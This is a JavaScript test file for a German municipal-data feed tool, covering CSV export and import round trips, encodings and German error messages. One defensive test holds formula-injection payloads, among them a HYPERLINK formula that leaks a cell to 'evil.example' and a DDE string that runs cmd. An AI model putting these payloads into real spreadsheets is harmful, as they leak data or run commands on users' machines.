// `npm run feed -- export/import`: the spreadsheet round trip and every error class with the
// exact German line the data staff read (file, spreadsheet row, column header, fix).
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import {
  defaultFeedText,
  edit,
  MERGED_GEMEINDEN,
  topology,
  exported,
  feedCli,
  folderOf,
  importLines,
  rowOf,
  serialize,
  textOf,
} from './feed-helpers.mjs';

/** A feed that uses every field the spreadsheets carry, in the feed's key order. */
const generated = {
  schemaVersion: 1,
  meta: {
    title: 'Testfeed',
    publisher: 'Testamt',
    asOf: '2024-06',
    source: 'Quelle; mit Semikolon',
    license: 'CC0',
    contact: { name: 'Testamt', url: 'https://example.org/', email: 'a@example.org', phone: '+49 351 0' },
  },
  indicators: [
    {
      id: 'money',
      label: { de: 'Fördergeld', en: 'Funding' },
      format: 'eur',
      cumulative: false,
      description: { de: 'Summe „in Euro“', en: 'Sum "in euro"' },
      points: [
        { date: '2021', value: 1.5, qualifier: 'approx', note: 'Zeile eins\nZeile zwei' },
        { date: '2022-03-01', value: 420000, qualifier: 'at-least', planned: true, source: 'https://example.org/a' },
        { date: '2023-03', value: 0, disputed: false },
      ],
    },
    {
      id: 'agreements',
      label: { de: 'Vereinbarungen', en: 'Agreements' },
      unit: { de: 'Kommunen', en: 'municipalities' },
      cumulative: true,
      layer: 'agreement',
      points: [{ date: '2024-01-02', value: 3, qualifier: 'exact', planned: false, disputed: true }],
    },
  ],
  events: [{ date: '2021-02', label: { de: 'Start', en: 'Start' }, priority: 1, note: ' "zitiert" ', source: 'Presse' }],
  municipalities: {
    14626: { name: 'Landkreis Görlitz', kpr: { action: 'existing', date: '../2021-11' } },
    14625030: { name: 'Bernsdorf', note: 'Nur eine Notiz' },
    14626610: {
      name: 'Zittau',
      contacted: { date: '2020-07/2021-05' },
      kpr: {
        action: 'reactivated',
        date: '2021',
        note: 'n',
        source: 's',
        body: { name: 'Rat', url: 'https://example.org/r', email: 'r@example.org' },
      },
      agreement: { date: '2021-02-05', partners: ['Landespräventionsrat Sachsen', 'Polizeidirektion Görlitz'] },
      analysis: { date: '2022', state: 'running' },
      funding: [
        { date: '2021', amountEur: 5000.5, amountQualifier: 'approx', project: 'P1', partners: ['Oybin'] },
        { date: '2022', project: 'P2' },
      ],
    },
  },
  bodies: {
    'vg-olbersdorf': {
      name: 'Verwaltungsgemeinschaft Olbersdorf',
      members: ['14626400', '14626430', '14626210'],
      note: 'Drei Gemeinden',
      agreement: { date: '2022-01-14' },
    },
  },
};
generated.events[0].note = 'zitiert: "so"';

test('round trip: the default feed comes back byte for byte', () => {
  const { feed, lines } = importLines(exported());
  assert.ok(feed, lines.join('\n'));
  assert.deepEqual(feed, JSON.parse(defaultFeedText));
  assert.equal(serialize(feed), defaultFeedText);
});

test('round trip: a generated feed with every column filled comes back byte for byte', () => {
  const original = JSON.parse(serialize(generated));
  const { feed, lines } = importLines(exported(original));
  assert.ok(feed, lines.join('\n'));
  assert.deepEqual(feed, original);
  assert.equal(serialize(feed), serialize(original));
});

test('export: text a spreadsheet would run as a formula goes behind an apostrophe, and comes back as it was', () => {
  const original = JSON.parse(serialize(generated));
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3+cmd', "'=schon geschützt"];
  original.indicators[0].points[0].note = formulas[0];
  original.indicators[0].label.de = formulas[1];
  original.indicators[0].points[1].note = formulas[2];
  original.events[0].note = formulas[3];
  const files = exported(original);
  const cells = [...files.keys()]
    .filter((name) => name.endsWith('.csv'))
    .flatMap((name) => parse(textOf(files, name), { delimiter: ';', bom: true }).flat());
  // No cell of the file starts a formula: each begins with the apostrophe the spreadsheet shows as text.
  assert.deepEqual(
    cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
    [],
  );
  assert.ok(cells.includes(`'${formulas[0]}`) && cells.includes(`''=schon geschützt`));
  const { feed, lines } = importLines(files);
  assert.ok(feed, lines.join('\n'));
  assert.deepEqual(feed, original);
});

test('export: UTF-8 with BOM, semicolons, CRLF, German headers, and a LIESMICH.txt naming every column', () => {
  const files = exported();
  assert.deepEqual([...files.keys()].sort(), [
    'LIESMICH.txt',
    'ereignisse.csv',
    'gremien.csv',
    'kennzahlen.csv',
    'meta.csv',
    'orte.csv',
    'werte.csv',
  ]);
  const orte = textOf(files, 'orte.csv');
  assert.ok(orte.startsWith('\uFEFFGemeinde;AGS;Gremium;Baustein;Datum;Notiz;Quelle;'));
  assert.match(orte, /\r\nZittau;14626610;;Kooperationsvereinbarung;2021-02-05;/);
  const liesmich = textOf(files, 'LIESMICH.txt');
  for (const name of ['meta.csv', 'kennzahlen.csv', 'werte.csv', 'ereignisse.csv', 'gremien.csv', 'orte.csv']) {
    const header = parse(textOf(files, name), { bom: true, delimiter: ';', to_line: 1 })[0];
    for (const column of header) assert.ok(liesmich.includes(`  ${column}`), `${name}: ${column} not described`);
  }
  assert.match(liesmich, /„Kontaktiert“, „Modellkommune“, „Kommunaler Präventionsrat“/);
});

test('import: BOM or none, CRLF or LF, "," or ";", quoted line breaks all read the same feed', () => {
  const original = JSON.parse(serialize(generated));
  const files = exported(original);
  const variants = {
    'no BOM, LF': (text) => text.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n'),
    'comma separated': (text) => {
      const rows = parse(text, { bom: true, delimiter: ';' });
      return rows
        .map((cells) => cells.map((cell) => (/[,"\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(','))
        .join('\n');
    },
    'CRLF inside a quoted cell': (text) => text.replace('Zeile eins\nZeile zwei', 'Zeile eins\r\nZeile zwei'),
  };
  assert.match(textOf(files, 'werte.csv'), /"Zeile eins\nZeile zwei"/);
  for (const [name, change] of Object.entries(variants)) {
    let changed = files;
    for (const file of files.keys()) if (file.endsWith('.csv')) changed = edit(changed, file, change);
    const { feed, lines } = importLines(changed);
    assert.deepEqual(feed, original, `${name}: ${lines.join('\n')}`);
  }
});

test('import: dates as German Excel writes them (05.02.2021, 02.2021) are read as JJJJ-MM-TT and JJJJ-MM', () => {
  const files = edit(exported(), 'orte.csv', (text) =>
    text.replace('Zittau;14626610;;Kooperationsvereinbarung;2021-02-05;', 'Zittau;14626610;;Kooperationsvereinbarung;05.02.2021;'),
  );
  const { feed } = importLines(edit(files, 'werte.csv', (text) => text.replace('advised;2020-12;99', 'advised;12.2020;99')));
  assert.equal(feed.municipalities['14626610'].agreement.date, '2021-02-05');
  assert.equal(feed.indicators[0].points[2].date, '2020-12');
});

test('import: a file Excel saved as Windows-1252 instead of UTF-8 is read, with a warning how to save it', () => {
  const files = exported();
  const latin1 = Uint8Array.from(textOf(files, 'gremien.csv').replace(/^\uFEFF/, ''), (c) =>
    c.charCodeAt(0) < 256 ? c.charCodeAt(0) : 63,
  );
  const { feed, lines } = importLines(new Map([...files, ['gremien.csv', latin1]]));
  assert.ok(feed, lines.join('\n'));
  assert.equal(feed.bodies['vv-wildenstein'].note, JSON.parse(defaultFeedText).bodies['vv-wildenstein'].note);
  assert.ok(
    lines.includes(
      'Hinweis: gremien.csv: ist nicht als UTF-8 gespeichert und wurde als Windows-1252 gelesen. Bitte beim Speichern „CSV UTF-8“ wählen.',
    ),
  );
});

test('gazetteer: the merged Gemeinden it names are exactly the keys the geometry moves to a successor', () => {
  assert.deepEqual(Object.keys(MERGED_GEMEINDEN).sort(), Object.keys(topology.crosswalk).sort());
});

test('error: an impossible date names file, row, column and the allowed forms', () => {
  const files = exported();
  const row = rowOf(files, 'werte.csv', 'advised;2020-09-16;87');
  const { feed, lines } = importLines(edit(files, 'werte.csv', (text) => text.replace('advised;2020-09-16;87', 'advised;2021-13-05;87')));
  assert.equal(feed, undefined);
  assert.deepEqual(lines, [
    `FEHLER: werte.csv, Zeile ${row}, Spalte „Datum“: 2021-13-05 ist kein gültiges Datum (erlaubt: JJJJ-MM-TT, JJJJ-MM oder JJJJ; Jahre 1900–2199)`,
  ]);
});

test('error: an unknown Gemeinde gets the three closest names with their AGS', () => {
  const files = exported();
  const row = rowOf(files, 'orte.csv', 'Zittau;14626610;;Kooperationsvereinbarung');
  const { lines } = importLines(
    edit(files, 'orte.csv', (text) => text.replace('Zittau;14626610;;Kooperationsvereinbarung', 'Zittauu;;;Kooperationsvereinbarung')),
  );
  assert.deepEqual(lines, [
    `FEHLER: orte.csv, Zeile ${row}, Spalte „Gemeinde“: Gemeinde „Zittauu“ ist unbekannt. Ähnliche Namen: Zittau (14626610), Ostrau (14522450), Zeithain (14627360). Bitte den Namen wie auf der Karte schreiben oder die AGS angeben.`,
  ]);
});

test('error: a name that is not the AGS named beside it, and a name two Gemeinden share', () => {
  const files = exported();
  const row = rowOf(files, 'orte.csv', 'Zittau;14626610;;Kooperationsvereinbarung');
  const wrong = importLines(
    edit(files, 'orte.csv', (text) =>
      text.replace('Zittau;14626610;;Kooperationsvereinbarung', 'Zittau;14626400;;Kooperationsvereinbarung'),
    ),
  );
  assert.deepEqual(wrong.lines, [
    `FEHLER: orte.csv, Zeile ${row}, Spalte „Gemeinde“: „Zittau“ passt nicht zur AGS 14626400, das ist Olbersdorf (14626400, Landkreis Görlitz). „Zittau“ hat die AGS Zittau (14626610, Landkreis Görlitz). Bitte Name oder AGS korrigieren (eines von beiden genügt).`,
  ]);
  const twice = importLines(
    edit(files, 'orte.csv', (text) => text.replace('Zittau;14626610;;Kooperationsvereinbarung', 'Bernsdorf;;;Kooperationsvereinbarung')),
  );
  assert.deepEqual(twice.lines, [
    `FEHLER: orte.csv, Zeile ${row}, Spalte „Gemeinde“: „Bernsdorf“ gibt es mehrmals: Bernsdorf (14524010, Landkreis Zwickau), Bernsdorf (14625030, Landkreis Bautzen). Bitte die AGS angeben.`,
  ]);
});

test('warning: a Gemeinde merged in 2017–2019 is resolved to its successor, named in the warning', () => {
  const files = exported();
  const row = rowOf(files, 'orte.csv', 'Zittau;14626610;;Kooperationsvereinbarung');
  const { feed, lines } = importLines(
    edit(files, 'orte.csv', (text) => text.replace('Zittau;14626610;;Kooperationsvereinbarung', 'Pfaffroda;;;Kooperationsvereinbarung')),
  );
  assert.ok(
    lines.includes(
      `Hinweis: orte.csv, Zeile ${row}, Spalte „Gemeinde“: „Pfaffroda“ gehört seit 2017 zu Olbernhau (14521460, Erzgebirgskreis); der Eintrag wird dort geführt.`,
    ),
    lines.join('\n'),
  );
  assert.equal(feed.municipalities['14521460'].agreement.date, '2021-02-05');
});

test('error: a value of an indicator that kennzahlen.csv does not list, with the closest id', () => {
  const files = exported();
  const row = rowOf(files, 'werte.csv', 'advised;2020-09-16;87');
  const { lines } = importLines(edit(files, 'werte.csv', (text) => text.replace('advised;2020-09-16;87', 'advisd;2020-09-16;87')));
  assert.equal(lines.length, 1);
  assert.match(
    lines[0],
    new RegExp(
      `^FEHLER: werte\\.csv, Zeile ${row}, Spalte „Kennzahl“: „advisd“ steht nicht in kennzahlen\\.csv\\. Meinten Sie „advised“\\? Vorhanden: advised, `,
    ),
  );
});

test('error: a duplicate row names the row it repeats', () => {
  const files = exported();
  const row = rowOf(files, 'orte.csv', 'Zittau;14626610;;Kooperationsvereinbarung');
  const line = textOf(files, 'orte.csv').split('\r\n')[row - 1];
  const { lines } = importLines(edit(files, 'orte.csv', (text) => `${text}${line}\r\n`));
  const last = textOf(files, 'orte.csv').split('\r\n').length;
  assert.deepEqual(lines, [
    `FEHLER: orte.csv, Zeile ${last}, Spalte „Baustein“: „Kooperationsvereinbarung“ für Zittau (14626610) steht schon in Zeile ${row} (doppelte Zeile). Jeder Baustein nur einmal je Ort, nur „Förderung“ mehrfach.`,
  ]);
});

test('error: a missing required column names the columns that are there', () => {
  const files = edit(exported(), 'werte.csv', (text) => text.replace('Kennzahl;Datum;Wert;', 'Kennzahl;Datun;Wert;'));
  const { lines } = importLines(files);
  assert.deepEqual(lines, [
    'FEHLER: werte.csv, Zeile 1: Die Spalte „Datum“ fehlt (Pflichtspalte). Meinten Sie „Datun“? Vorhandene Spalten: „Kennzahl“, „Datun“, „Wert“, „Genauigkeit“, „Geplant“, „Umstritten“, „Notiz“, „Quelle“.',
    'Hinweis: werte.csv, Zeile 1, Spalte „Datun“: unbekannte Spalte, wird ignoriert. Meinten Sie „Datum“?',
  ]);
});

test('error: a file separated by tabs is named with the fix', () => {
  const files = edit(exported(), 'ereignisse.csv', (text) => text.replaceAll(';', '\t'));
  const { lines } = importLines(files);
  assert.deepEqual(lines, [
    'FEHLER: ereignisse.csv, Zeile 1: Die Spalten sind durch Tabulatoren getrennt. Bitte die Datei als CSV mit Semikolon „;“ (oder Komma „,“) als Trennzeichen speichern.',
  ]);
});

test('error: a word outside the allowed ones and a column that belongs to another building block', () => {
  const files = exported();
  const row = rowOf(files, 'orte.csv', 'Zittau;14626610;;Kooperationsvereinbarung');
  const { lines } = importLines(
    edit(files, 'orte.csv', (text) => text.replace('Zittau;14626610;;Kooperationsvereinbarung', 'Zittau;14626610;;Vereinbarung')),
  );
  assert.deepEqual(lines, [
    `FEHLER: orte.csv, Zeile ${row}, Spalte „Baustein“: „Vereinbarung“ ist nicht erlaubt (erlaubt: „Kontaktiert“, „Modellkommune“, „Kommunaler Präventionsrat“, „Vorvereinbarung“, „Kooperationsvereinbarung“, „Coaching“, „Sicherheitsanalyse“, „Förderung“, oder leer)`,
  ]);
  const kprRow = rowOf(files, 'orte.csv', ';Kommunaler Präventionsrat;');
  const misplaced = importLines(
    edit(files, 'orte.csv', (text) => {
      const rows = text.split('\r\n');
      rows[kprRow - 1] = rows[kprRow - 1].replace(/;[^;]*$/, ';Projekt X');
      return rows.join('\r\n');
    }),
  );
  assert.deepEqual(misplaced.lines, [
    `FEHLER: orte.csv, Zeile ${kprRow}, Spalte „Förderung: Projekt“: gilt nur für den Baustein „Förderung“, nicht für „Kommunaler Präventionsrat“; bitte leeren oder den Baustein ändern`,
  ]);
});

test('warnings: a cumulative series that falls, a record after the Stand, more places than the official figure', () => {
  const files = exported();
  const row = rowOf(files, 'werte.csv', 'advised;2021-11;126');
  const { feed, lines } = importLines(
    edit(files, 'werte.csv', (text) =>
      text.replace('advised;2021-11;126', 'advised;2021-11;99').replace('advised;2020-09-16;87', 'advised;2026-09-16;87'),
    ),
  );
  assert.ok(feed, 'warnings do not stop the import');
  const falls = lines.find((line) => line.includes('fällt'));
  assert.match(
    falls,
    new RegExp(
      `^Hinweis: werte\\.csv, Zeile ${row}: Die fortlaufend gezählte Kennzahl „advised“ fällt von 121 \\(werte\\.csv, Zeile ${row - 1}, 2021-09-01\\) auf 99 \\(2021-11\\)\\. Bitte den Wert korrigieren oder den widerlegten Punkt in der Spalte „Umstritten“ mit „ja“ und einer Notiz markieren\\.$`,
    ),
  );
  assert.ok(
    lines.some((line) =>
      /^Hinweis: werte\.csv, Zeile \d+, Spalte „Datum“: 2026-09-16 liegt nach dem Stand 2025-04-11 \(meta\.csv, Feld „Stand“\)\. Bitte den Stand vorrücken oder das Datum prüfen\.$/.test(
        line,
      ),
    ),
    lines.join('\n'),
  );
  assert.ok(
    lines.some((line) =>
      /^Hinweis: kennzahlen\.csv, Zeile \d+, Spalte „Karten-Ebene“: Zum Stand .* stehen \d+ Einträge der Ebene „analysis“ auf der Karte, die amtliche Zahl „security-analyses“ ist 12/.test(
        line,
      ),
    ),
  );
});

test('command line: import writes nothing and exits 1 on an error, writes the feed and exits 0 when valid', () => {
  const good = folderOf(exported());
  const out = join(good, 'feed.json');
  const ok = feedCli('import', good, '--out', out);
  assert.equal(ok.code, 0, ok.out);
  assert.equal(readFileSync(out, 'utf8'), defaultFeedText);

  const bad = folderOf(edit(exported(), 'werte.csv', (text) => text.replace('advised;2020-09-16;87', 'advised;2020-09-16;viele')));
  const badOut = join(bad, 'feed.json');
  const failed = feedCli('import', bad, '--out', badOut);
  assert.equal(failed.code, 1);
  assert.match(failed.out, /FEHLER: werte\.csv, Zeile 3, Spalte „Wert“: „viele“ ist keine Zahl/);
  assert.match(failed.out, /1 Fehler, 0 Hinweise: nichts geschrieben\./);
  assert.equal(existsSync(badOut), false);
});

test('command line: export writes the files that import reads', () => {
  const folder = folderOf(new Map());
  const result = feedCli('export', join(folder, 'tabellen'));
  assert.equal(result.code, 0, result.out);
  assert.match(
    result.out,
    /7 Dateien nach .*tabellen geschrieben: meta\.csv, kennzahlen\.csv, werte\.csv, ereignisse\.csv, gremien\.csv, orte\.csv, LIESMICH\.txt\./,
  );
  assert.equal(feedCli('import', join(folder, 'tabellen')).code, 0);
});

test('error: a missing file, a body of one member, and a finding of the feed validator placed at its cell', () => {
  const files = exported();
  const withoutBodies = new Map(files);
  withoutBodies.delete('gremien.csv');
  assert.deepEqual(importLines(withoutBodies).lines, ['FEHLER: gremien.csv: fehlt im Ordner (Dateiname genau so, klein geschrieben).']);

  const row = rowOf(files, 'gremien.csv', '14521090 | 14521270');
  const single = importLines(edit(files, 'gremien.csv', (text) => text.replace('14521090 | 14521270', '14521090')));
  assert.deepEqual(single.lines, [
    `FEHLER: gremien.csv, Zeile ${row}, Spalte „Mitglieder“: braucht mindestens zwei Gemeinden (AGS oder Namen, getrennt durch „|“)`,
  ]);

  const last = textOf(files, 'kennzahlen.csv').split('\r\n').length;
  const { lines } = importLines(edit(files, 'kennzahlen.csv', (text) => `${text}Neue-Zahl;Neu;New;;;;;;;\r\n`));
  assert.equal(
    lines[0],
    `FEHLER: kennzahlen.csv, Zeile ${last}, Spalte „Kennung“: „Neue-Zahl“ darf nur Kleinbuchstaben, Ziffern und Bindestriche enthalten`,
  );
});

test('import: a first line `sep=;` as Excel writes it is the separator, not a row', () => {
  const files = edit(exported(), 'ereignisse.csv', (text) => `sep=;\r\n${text.replace(/^\uFEFF/, '')}`);
  const { feed, lines } = importLines(files);
  assert.deepEqual(feed, JSON.parse(defaultFeedText), lines.join('\n'));
});

test('command line: export says which fields of a feed have no column and would not come back', () => {
  const feed = JSON.parse(defaultFeedText);
  feed.municipalities['14626610'].farbe = 'rot';
  const folder = folderOf(new Map([['feed.json', new TextEncoder().encode(JSON.stringify(feed))]]));
  const { code, out } = feedCli('export', join(folder, 'tabellen'), '--feed', join(folder, 'feed.json'));
  assert.equal(code, 0, out);
  assert.match(
    out,
    /Hinweis: Der Feed kommt aus diesen Tabellen nicht unverändert zurück:\n {2}Gemeinden und Kreise:\n {4}~ geändert: Zittau \(14626610\): farbe: „rot“ → \(leer\)\n/,
  );
  assert.doesNotMatch(feedCli('export', join(folder, 'default')).out, /Hinweis/);
});
